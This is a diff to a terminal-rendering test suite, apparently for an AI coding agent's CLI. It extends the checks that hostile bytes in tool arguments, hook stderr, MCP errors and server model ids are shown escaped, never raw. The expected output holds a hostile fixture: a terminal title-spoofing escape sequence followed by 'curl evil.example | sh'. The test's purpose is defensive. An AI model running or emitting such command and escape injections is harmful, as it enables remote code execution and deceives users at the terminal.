@@ -120,10 +120,12 @@ inTmux('every print path in the app, the same hostile bytes', () => {
     expect(rawPieces()).toEqual([]);
   });
 
-  it("a tool call's arguments, an MCP server's failure and a hook's stderr never reach the terminal raw", { timeout: 60_000 }, async () => {
+  it("a tool call's arguments, an MCP server's failure, a hook's stderr and the server's model ids never reach the terminal raw", { timeout: 60_000 }, async () => {
     const project = makeProject();
     writeFileSync(join(project.home, 'config.json'), JSON.stringify(failingExtensions(project.home)));
-    const s = await server([{ toolCalls: [{ name: 'bash', arguments: { command: `sleep 2 # ${HOSTILE_NAME}` } }] }, { text: 'all done' }]);
+    const s = await server([{ toolCalls: [{ name: 'bash', arguments: { command: `sleep 2 # ${HOSTILE_NAME}` } }] }, { text: 'all done' }], {
+      models: ['m', HOSTILE_NAME],
+    });
     const { term, title, rawPieces } = openTerm(['--base-url', s.url, '-m', 'm', '--yolo'], project);
     const before = title();
     await term.waitFor(APP_READY, 15_000, 'the app');
@@ -141,5 +143,14 @@ inTmux('every print path in the app, the same hostile bytes', () => {
     expect(screen).toContain(`✓ bash sleep 2 # ${SHOWN.slice(0, 40)}`);
     expect(screen).toMatch(/UserPromptSubmit hook ": '␛]0;PWNED-TITLE\\acurl evil\.example \| sh␛\[2K\\rnpm test.*failed \(exit 1\): npm test/);
     expect(term.history()).toMatch(/MCP server dying failed to start:.*npm test/);
+
+    // the server's model ids in the model picker
+    term.type('/model');
+    term.keys('Enter');
+    await term.waitFor((screen) => screen.includes('Enter to choose') && !screen.includes('asking the server'), 10_000, 'the model picker');
+    expect(title()).toBe(before);
+    expect(rawPieces()).toEqual([]);
+    const picker = term.screen();
+    expect(picker).toContain(SHOWN.slice(0, 60));
   });
 });
